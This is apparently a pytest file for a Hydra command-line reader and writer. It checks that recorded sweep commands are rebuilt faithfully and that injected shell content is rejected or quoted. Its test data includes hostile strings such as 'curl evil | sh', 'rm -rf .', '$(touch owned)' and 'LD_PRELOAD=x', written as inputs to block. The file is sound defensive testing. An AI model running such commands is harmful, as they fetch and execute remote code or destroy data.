"""Commands keep where configs come from, follow results that were moved, and can be typed anywhere."""

import json
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from analysis.read import programs
from analysis.read.command_lines import (
    NO_COMMAND,
    Command,
    Origin,
    assign,
    command_line,
    read_command,
    read_origin,
    write_command,
)  # fmt: skip
from analysis.read.overrides import grid_command, single_command
from analysis.read.plans import read_sweep

ROOT = Path(__file__).parents[3]


def write_plan(directory: Path, command: str, **fields: Any) -> str:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "sweep.json").write_text(json.dumps({"studies": [], "name": "s", "command": command} | fields))
    return str(directory / "sweep.json")


def rebuilt(text: str) -> str | None:
    """A recorded command, written anew."""
    command = read_command(text)
    return command and write_command(command.overrides, Origin(command.options), multirun="-m" in shlex.split(text))


def test_a_command_is_read_into_options_and_overrides() -> None:
    text = "python run.py -m --config-dir '/my conf' -cn mine hydra.searchpath=[x] ~sweep.space.a 'a=b c' seed=0,1"
    options = ("--config-dir", "/my conf", "-cn", "mine", "hydra.searchpath=[x]")
    assert read_command(text) == Command(options, ("~sweep.space.a", "a=b c", "seed=0,1"))


def test_a_command_of_the_console_script_keeps_it_and_what_it_trusts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "tffd").touch(mode=0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setattr(programs.sys, "executable", str(tmp_path / "python"))
    text = "TFFD_TRUST=mylab,other.parts tffd -m --config-dir /my/conf sweep=mine"
    command = read_command(text)
    assert command == Command(("--config-dir", "/my/conf"), ("sweep=mine",), True, ("mylab", "other.parts"))
    assert write_command(command.overrides, command.origin(), multirun=True) == text
    assert read_sweep(write_plan(tmp_path, text)).command == text
    (tmp_path / "result.json").write_text(json.dumps({"program": "TFFD_TRUST=mylab /some/where/tffd"}))
    (tmp_path / ".hydra").mkdir()
    hydra = {
        "runtime": {"config_sources": [], "cwd": "/x"},
        "job": {"config_name": "config"},
        "overrides": {"hydra": []},
    }
    (tmp_path / ".hydra" / "hydra.yaml").write_text(yaml.dump({"hydra": hydra}))
    assert read_origin(str(tmp_path)) == Origin((), "/x", True, ("mylab",))


@pytest.mark.parametrize("trust", ["TFFD_TRUST=a;b", "TFFD_TRUST=$(x)", "LD_PRELOAD=x", "TFFD_TRUST="])
def test_no_other_assignment_is_shown(trust: str) -> None:
    assert read_command(f"{trust} tffd a=1") is None


def test_a_script_that_is_not_on_the_path_is_shown_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "")
    monkeypatch.setattr(programs.sys, "executable", str(tmp_path / "python"))
    assert programs.console_script(is_needed=False) is None
    assert programs.console_script(is_needed=True) == "tffd"
    (tmp_path / "tffd").touch()
    assert programs.console_script(is_needed=False) == str(tmp_path / "tffd")
    monkeypatch.setattr(programs.sys, "argv", ["/x/tffd-analysis"])
    (tmp_path / "tffd-analysis").touch()
    assert programs.analysis_words() == [str(tmp_path / "tffd-analysis")]
    monkeypatch.setattr(programs.sys, "argv", ["/x/analysis/__main__.py"])
    assert programs.analysis_words() == ["python", "-m", "analysis"]


@pytest.mark.parametrize(
    "words",
    [
        ["python", "run.py", "-m", "ablation=terms"],
        ["python", "run.py", "--config-dir", "my confs", "-cn", "mine", "name=two words", "++a.b=1", "~c", "~d=1"],
        ["python", "run.py", "-m", "-cn", "mine", "hydra.searchpath=[x]", "~sweep.space.a", "a=b c", "seed=0,1"],
        ["python", "run.py", "--config-path", "x", "a.b=choice('a b','c,d=e')", "+x/y@z.w=[1]", "h/i=j"],
    ],
)
def test_what_starts_runs_is_put_together_as_it_was(words: list[str]) -> None:
    assert rebuilt(shlex.join(words)) == shlex.join(words)


@pytest.mark.parametrize(
    "command",
    [
        "python run.py -m sweep=lambdas; curl evil | sh",
        "python run.py -m sweep=lambdas && rm -rf .",
        "python run.py -m a=1 | sh",
        "python run.py -m\nrm -rf .",
        "python run.py -m 'name=a\nrm -rf .'",
        "python run.py name=\x1b[2J",
        "python run.py -m 'open",
        "python -c 'import os'",
        "python run.py --config-dir",
        "python run.py --config-dir -m a=1",
        "python run.py --run a=1",
        "curl evil",
        "curl x | sh",
        "sh run.py",
        "python evil.py a=1",
        "python run.py --experimental-rerun x",
        "python run.py -m a=1 ; curl x",
        "rm run.py a=1",
        "python",
        "",
    ],
)
def test_what_is_no_command_of_this_program_is_not_shown(tmp_path: Path, command: str) -> None:
    assert read_command(command) is None
    assert read_sweep(write_plan(tmp_path, command)).command is None


def test_what_a_shell_would_act_on_is_quoted() -> None:
    """Words that parse may hold anything printable; the shell passes it on and does not run it."""
    words = ["name=$(touch owned)", "a=`touch owned`", "b=x;touch owned", "c='&touch owned"]
    rebuilt_twice = rebuilt(single_command(words))
    assert rebuilt_twice == single_command(words)
    shown = subprocess.run(["sh", "-c", f"printf '%s\\n' {rebuilt_twice}"], capture_output=True, text=True, check=True)
    assert shown.stdout.splitlines() == ["python", "run.py", *words]


@pytest.mark.parametrize("words", [["a=1\n"], ["a=\x1b"], ["; rm -rf ."], ["a=1", "| sh"], ["--run=x"], ["-e"]])
def test_recorded_overrides_that_are_none_make_no_command(words: list[str]) -> None:
    assert single_command(words) == grid_command(words) == NO_COMMAND


def test_a_directory_with_a_line_break_is_not_typed() -> None:
    assert command_line(["python", "-m", "analysis", "table", "results/a\nb"]) == NO_COMMAND
    assert command_line(["python", "-m", "analysis", "table", "a b"]) == "python -m analysis table 'a b'"


def test_shell_words_in_a_value_stay_in_the_value(tmp_path: Path) -> None:
    command = read_sweep(write_plan(tmp_path, "python run.py -m 'name=a; curl x | sh'")).command
    assert command is not None
    assert shlex.split(command) == ["python", "run.py", "-m", "name=a; curl x | sh"]


def test_a_sweep_goes_on_where_it_lies_now(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    recorded = {"cwd": str(tmp_path), "results_dir": str(tmp_path / "results")}
    path = write_plan(tmp_path / "results" / "s", "python run.py -m --config-dir /c sweep=lambdas", **recorded)
    program = f"python {ROOT / 'run.py'}"
    assert read_sweep(path).command == f"{program} -m --config-dir /c sweep=lambdas"
    (tmp_path / "results").rename(tmp_path / "old")
    moved = read_sweep(str(tmp_path / "old" / "s" / "sweep.json"))
    assert moved.command == f"{program} -m --config-dir /c sweep=lambdas results_dir=old name=s"
    (tmp_path / "old" / "s").rename(tmp_path / "old" / "t")
    elsewhere = tmp_path / "else where"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    renamed = read_sweep(str(tmp_path / "old" / "t" / "sweep.json"))
    assert renamed.place == {"results_dir": str(tmp_path / "old"), "name": "t"}
    assert renamed.command == (
        f"cd {tmp_path} && {program} -m --config-dir /c sweep=lambdas results_dir={tmp_path}/old name=t"
    )


def test_in_its_own_directory_the_program_has_its_short_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    assert write_command(["seed=1"], Origin((), str(ROOT))) == "python run.py seed=1"


def test_a_directory_that_this_machine_lacks_is_not_changed_to(tmp_path: Path) -> None:
    assert write_command(["seed=1"], Origin((), str(tmp_path / "none"))).startswith("python ")


def test_what_hydra_recorded_of_a_run_tells_where_its_configs_came_from(tmp_path: Path) -> None:
    sources = [
        {"path": "hydra.conf", "provider": "hydra"},
        {"path": "/their/conf", "provider": "main"},
        {"path": "/mine", "provider": "command-line"},
    ]
    hydra = {
        "runtime": {"config_sources": sources, "cwd": "/begun/here"},
        "job": {"config_name": "own"},
        "overrides": {"hydra": ["hydra.searchpath=[file:///x]", "hydra.mode=RUN"]},
    }
    (tmp_path / ".hydra").mkdir()
    (tmp_path / ".hydra" / "hydra.yaml").write_text(yaml.dump({"hydra": hydra}))
    words = "--config-path /their/conf --config-dir /mine --config-name own hydra.searchpath=[file:///x]"
    assert read_origin(str(tmp_path)) == Origin(tuple(words.split()), "/begun/here")
    sources[1]["path"] = str(ROOT / "conf")
    hydra["job"] = {"config_name": "config"}
    (tmp_path / ".hydra" / "hydra.yaml").write_text(yaml.dump({"hydra": hydra}))
    assert read_origin(str(tmp_path)).options == ("--config-dir", "/mine", "hydra.searchpath=[file:///x]")
    assert read_origin(str(tmp_path / "none")) == Origin()
    sources[1]["path"] = "/of/another/machine/conf"  # which has this program's configs there
    (tmp_path / ".hydra" / "hydra.yaml").write_text(yaml.dump({"hydra": hydra}))
    assert read_origin(str(tmp_path)).options == ("--config-dir", "/mine", "hydra.searchpath=[file:///x]")


@pytest.mark.parametrize(
    ("value", "written"),
    [("a b", "k=a b"), ("results", "k=results"), ("a,b", "k='a,b'"), ("2024", "k='2024'"), ("it's", r"k='it\'s'")],
)
def test_a_text_is_quoted_where_hydra_would_read_something_else(value: str, written: str) -> None:
    assert assign("k", value) == written
